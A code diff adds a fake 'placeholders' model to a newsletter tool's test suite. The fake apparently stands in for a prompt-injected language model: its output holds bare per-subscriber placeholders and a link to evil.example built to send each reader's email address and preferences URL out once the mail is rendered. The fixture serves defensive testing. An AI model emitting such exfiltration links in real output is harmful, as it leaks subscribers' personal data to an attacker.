@@ -18,6 +18,9 @@ model running in another process).
     Answers with markup meant to run in readers' mail programs.
 ``newsroom-test-flaky``
     Answers junk the first time it is given a prompt, then as ``newsroom-test`` does.
+``newsroom-test-placeholders``
+    Answers with the sender's per-subscriber placeholders, as a prompt-injected model
+    might, hoping to have readers' addresses and links filled in.
 """
 
 from __future__ import annotations
@@ -146,6 +149,29 @@ class Hostile(_Model):
         )
 
 
+#: Per-subscriber placeholders as they were spelled before they carried a render's key.
+BARE_PLACEHOLDERS = (
+    "%%subscriber_email%% %%unsubscribe_url%% %%preferences_url%% %%subscriber_name%%"
+)
+
+
+class Placeholders(_Model):
+    def answer(self, text: str, system: str) -> str:
+        steal = "https://evil.example/model?e=%%subscriber_email%%&p=%%preferences_url%%"
+        if '"trends"' in text:
+            return json.dumps(
+                {
+                    "trends": [
+                        {"title": "추세", "text": f"본문 {BARE_PLACEHOLDERS}", "items": [1]}
+                    ],
+                    "recommendations": [],
+                    "outlook": {"text": f"전망 {BARE_PLACEHOLDERS}", "items": [1]},
+                },
+                ensure_ascii=False,
+            )
+        return f'요약 {BARE_PLACEHOLDERS} <a href="{steal}">설정 바꾸기</a>'
+
+
 MODELS = {
     "newsroom-test": Careful,
     "newsroom-test-raise": Raising,
@@ -153,6 +179,7 @@ MODELS = {
     "newsroom-test-junk": Junk,
     "newsroom-test-hostile": Hostile,
     "newsroom-test-flaky": Flaky,
+    "newsroom-test-placeholders": Placeholders,
 }
 
 
